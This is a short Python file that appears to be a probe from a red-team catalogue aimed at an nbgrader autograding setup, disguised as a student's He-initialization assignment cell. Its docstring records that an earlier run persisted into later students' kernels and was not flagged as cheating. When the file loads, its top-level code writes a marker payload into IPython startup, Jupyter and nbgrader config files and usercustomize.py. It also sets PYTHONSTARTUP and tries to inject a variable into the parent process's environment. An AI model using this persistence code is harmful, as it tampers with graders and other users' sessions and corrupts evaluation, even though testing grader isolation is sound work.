"""Writes start-up code into $HOME (IPython startup, ~/.jupyter/nbgrader_config.py, usercustomize) and exports variables, for the kernels and nbgrader commands that run later.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: persist-startup
old: wrote ~/.ipython startup, ~/.jupyter/nbgrader_config.py, jupyter_config.py and usercustomize.py; the next students' kernels ran the IPython startup file; cheater 0
"""
import os
import site

_PAYLOAD = '''# gradeghost
import os
try:
    open(os.path.join("/tmp", "gradeghost-%s-ran-%d" % (os.path.basename(__file__), os.getpid())), "w").close()
except (OSError, NameError):
    pass
'''
_home = os.path.expanduser("~")
for _path in (os.path.join(_home, ".ipython", "profile_default", "startup", "00-gradeghost.py"),
              os.path.join(_home, ".jupyter", "nbgrader_config.py"),
              os.path.join(_home, ".jupyter", "jupyter_config.py"),
              os.path.join(site.getusersitepackages(), "usercustomize.py")):
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "a") as _file:
            _file.write(_PAYLOAD)
    except OSError as _error:
        print(_error)
# Variables for whatever this kernel starts, and a try at the grader's own environment.
os.environ["PYTHONSTARTUP"] = os.path.join(_home, ".ipython", "profile_default", "startup", "00-gradeghost.py")
os.environ["PYTHONPATH"] = os.getcwd() + os.pathsep + os.environ.get("PYTHONPATH", "")
try:
    with open(f"/proc/{os.getppid()}/environ", "ab") as _environ:
        _environ.write(b"GRADEGHOST=1\0")
except OSError as _error:
    print(_error)


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
